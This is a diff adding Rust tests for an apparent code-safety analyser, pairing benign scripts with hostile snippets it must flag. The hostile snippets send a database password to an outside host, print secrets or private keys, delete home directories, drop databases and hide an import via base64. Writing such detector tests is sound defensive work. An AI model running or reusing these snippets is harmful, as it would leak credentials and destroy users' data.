@@ -10378,3 +10378,314 @@ fn a_hex_decoder_of_the_scripts_own_run_as_code_is_decode_to_exec() {
         check(lang, &code, verdict, category);
     }
 }
+
+/// A database server's client library given a URL read from `.env` logs in with it: the
+/// connection and what its queries return (rows, counts, ids) hold none of the password. The
+/// URL itself printed stays a leak.
+#[test]
+fn a_database_connection_made_with_a_secret_returns_no_secret() {
+    let py = "import psycopg\n\ndef dotenv():\n    values = {}\n    for line in open('.env').read().splitlines():\n        k, _, v = line.partition('=')\n        values[k] = v\n    return values\n\nurl = dotenv().get('DATABASE_URL')\n";
+    let js = "const fs = require('fs');\nconst { Client } = require('pg');\nconst env = {};\nfor (const line of fs.readFileSync('.env', 'utf8').split('\\n')) {\n  const [k, v] = line.split('=');\n  env[k] = v;\n}\nconst url = env.DATABASE_URL;\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            format!(
+                "{py}with psycopg.connect(url) as conn:\n    with conn.cursor() as cur:\n        cur.execute('SELECT id FROM orders')\n        for (order_id,) in cur.fetchall():\n            print('order', order_id)\n"
+            ),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Py,
+            format!("{py}conn = psycopg.connect(url)\nprint('connected to', url)\n"),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            format!(
+                "{js}async function main() {{\n  const client = new Client({{ connectionString: url }});\n  await client.connect();\n  const {{ rows }} = await client.query('SELECT count(*) AS n FROM posts');\n  console.log(`${{rows[0].n}} rows pending`);\n}}\nmain();\n"
+            ),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Js,
+            format!(
+                "{js}const client = new Client({{ connectionString: url }});\nconsole.log(`using ${{url}}`);\n"
+            ),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const { Pool } = require('pg');\nconst pool = new Pool({ host: 'db.metrics-collector.net', password: process.env.PGPASSWORD });\npool.query('select 1').then((r) => console.log(r.rows));\n".to_owned(),
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// After a `.env` is sourced, a variable the script never set may come from it; `$1` (an
+/// argument of the script or of a function) never does. A count given to `head -n` is neither
+/// printed nor read as a file.
+#[test]
+fn a_sourced_env_file_sets_no_positional_parameters() {
+    let env = "set -a\n. ./.env\nset +a\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Sh,
+            format!(
+                "{env}case \"$1\" in\n  --status) echo ok ;;\n  *) echo \"unknown argument $1\" >&2; exit 2 ;;\nesac\n"
+            ),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Sh,
+            format!(
+                "{env}die() {{ echo \"db: $*\" >&2; exit 1; }}\n[ -n \"$1\" ] || die \"usage: $0 NAME\"\n"
+            ),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Sh,
+            format!("{env}echo \"using $DATABASE_URL\"\n"),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            format!(
+                "{env}ls -1t backups/*.dump | head -n \"$KEEP_BACKUPS\" | while read -r f; do\n  echo \"$f\"\ndone\n"
+            ),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Sh,
+            format!("{env}head -n \"$KEEP_BACKUPS\" .env\n"),
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// `openssl x509`, `req`, `verify` and a key's `-pubout` print a certificate, a request, a
+/// result or a public key: the private key they sign with is not in their output. A command
+/// that prints the key itself (`openssl pkey -in KEY`) still leaks it.
+#[test]
+fn openssl_commands_that_print_public_material_print_no_key() {
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Sh,
+            "for pem in certs/*.pem; do\n  sans=\"$(openssl x509 -in \"$pem\" -noout -ext subjectAltName | tail -n +2)\"\n  echo \"renewing $pem for $sans\"\ndone\n".to_owned(),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Sh,
+            "tmp=\"$(mktemp -d)\"\nopenssl req -new -key certs/app.key -subj /CN=app.localhost -out \"$tmp/req.csr\"\nopenssl verify -CAfile certs/ca.pem certs/app.pem\n".to_owned(),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Sh,
+            "key=\"$(openssl pkey -in certs/app.key)\"\necho \"$key\"\n".to_owned(),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "openssl req -new -newkey rsa:2048 -nodes -keyout - -subj /CN=x -in certs/app.key\n"
+                .to_owned(),
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// An arrow helper called with known arguments returns what that call gives
+/// (`get("--out", "dist-docs")`), not the default of another call (`get("--base", "/")`): a
+/// path built from it is not `/`. A call whose own default is `/` still deletes it.
+#[test]
+fn an_arrow_helper_called_with_known_arguments_returns_its_own_value() {
+    let head = "import { resolve } from \"node:path\";\nimport { rmSync } from \"node:fs\";\nconst ROOT = process.cwd();\nfunction options(argv: string[]) {\n  const get = (f: string, d: string) => (argv.includes(f) ? argv[argv.indexOf(f) + 1] : d);\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Ts,
+            format!(
+                "{head}  const out = resolve(ROOT, get(\"--out\", \"dist-docs\"));\n  const base = get(\"--base\", \"/\");\n  return {{ out, base }};\n}}\nconst {{ out }} = options(process.argv.slice(2));\nrmSync(out, {{ recursive: true, force: true }});\n"
+            ),
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            format!(
+                "{head}  const out = resolve(ROOT, get(\"--out\", \"/\"));\n  const base = get(\"--base\", \"dist-docs\");\n  return {{ out, base }};\n}}\nconst {{ out }} = options(process.argv.slice(2));\nrmSync(out, {{ recursive: true, force: true }});\n"
+            ),
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// A database server's command-line client started from another language with SQL to run
+/// (`psql -c`, `mysql -e`): a database dropped is destroyed whatever the names built at run
+/// time are, and whichever of a helper's calls gives the SQL; emptying tables of a server on
+/// this machine is a test reset, and a query is the client's ordinary work.
+#[test]
+fn sql_given_to_a_database_cli_from_another_language_is_judged() {
+    let helpers = "import os\nimport subprocess\nimport sys\n\ndef psql_argv(host, sql):\n    return ['psql', '-h', host, '-d', 'postgres', '-c', sql]\n\ndef spawn(argv):\n    pid = os.posix_spawn('/usr/bin/psql', argv, dict(os.environ))\n    return os.waitpid(pid, 0)\n\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            format!("{helpers}db = sys.argv[1]\nspawn(psql_argv(sys.argv[2], f'DROP DATABASE IF EXISTS \"{{db}}\" WITH (FORCE)'))\nspawn(psql_argv(sys.argv[2], f'CREATE DATABASE \"{{db}}\"'))\n"),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const { execFileSync } = require('child_process');\nconst table = process.argv[2];\nexecFileSync('mysql', ['-h', 'db.prod.internal', '-e', `TRUNCATE TABLE ${table}`]);\n".to_owned(),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import subprocess\nsubprocess.run(['psql', '-h', 'localhost', '-c', 'TRUNCATE TABLE sessions'], check=True)\n".to_owned(),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            format!("{helpers}spawn(psql_argv(sys.argv[1], 'SELECT count(*) FROM orders'))\n"),
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// A service started in its own session whose whole process group the script stops
+/// (`os.killpg(proc.pid, ...)`) is the script's own and ends with it; one started the same way
+/// and never stopped is still meant to outlive the run.
+#[test]
+fn a_detached_service_whose_session_the_script_kills_is_its_own() {
+    let start = "import os\nimport signal\nimport subprocess\n\nproc = subprocess.Popen(['./target/release/server'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            format!(
+                "{start}try:\n    subprocess.run(['curl', '-fsS', 'http://127.0.0.1:8080/health'], check=True)\nfinally:\n    os.killpg(proc.pid, signal.SIGTERM)\n    proc.wait(timeout=10)\n"
+            ),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            format!(
+                "{start}try:\n    subprocess.run(['curl', '-fsS', 'http://127.0.0.1:8080/health'], check=True)\nfinally:\n    os.killpg(os.getpgid(proc.pid), signal.SIGKILL)\n"
+            ),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            format!("{start}print('started', proc.pid)\n"),
+            Suspicious,
+            "escape",
+        ),
+        (
+            Py,
+            format!(
+                "{start}other = subprocess.Popen(['sleep', '1'], start_new_session=True)\nos.killpg(other.pid, signal.SIGTERM)\n"
+            ),
+            Suspicious,
+            "escape",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// `shutil.which(NAME)` of a known name is where that program is on PATH: an argument vector
+/// it starts runs that program (judged as such), not a name built at run time.
+#[test]
+fn a_program_found_with_shutil_which_is_that_program() {
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            "import shutil\nimport subprocess\nimport sys\n\ndef require_tool(name):\n    path = shutil.which(name)\n    if not path:\n        raise SystemExit(f'{name} is not installed')\n    return path\n\ndef vault(*args):\n    return subprocess.run([require_tool('vault'), *args], capture_output=True, text=True)\n\nvault('kv', 'get', 'secret/dev/app')\nsubprocess.run([require_tool('openssl'), 'version'])\n".to_owned(),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import shutil\nimport subprocess\n\nexe = shutil.which('rm')\nsubprocess.run([exe, '-rf', '/home/dev'])\n".to_owned(),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import shutil\nimport subprocess\nimport sys\n\nexe = shutil.which(sys.argv[1])\nsubprocess.run([exe, 'version'])\n".to_owned(),
+            Suspicious,
+            "remote-code",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// `importlib.import_module(f"{PACKAGE}.{name}")` under a fixed package imports one of that
+/// package's modules, whichever name a listing finds; a name computed whole, one under a
+/// module that runs programs, or one decoded at run time still hides what is loaded.
+#[test]
+fn a_module_of_a_fixed_package_imported_by_name_is_that_package_code() {
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            "import importlib\nimport pkgutil\n\nPACKAGE = 'edgecache.migrations'\npkg = importlib.import_module(PACKAGE)\nfor info in pkgutil.iter_modules(pkg.__path__):\n    module = importlib.import_module(f'{PACKAGE}.{info.name}')\n    module.up()\n".to_owned(),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import importlib\nimport sys\n\nmodule = importlib.import_module(sys.argv[1])\nmodule.main()\n".to_owned(),
+            Suspicious,
+            "obfuscated-execution",
+        ),
+        (
+            Py,
+            "import importlib\nimport sys\n\nmodule = importlib.import_module(f'os.{sys.argv[1]}')\n".to_owned(),
+            Suspicious,
+            "obfuscated-execution",
+        ),
+        (
+            Py,
+            "import base64\nimport importlib\n\nname = base64.b64decode('c3VicHJvY2Vzcw==').decode()\nmodule = importlib.import_module(f'plugins.{name}')\n".to_owned(),
+            Dangerous,
+            "obfuscated-execution",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
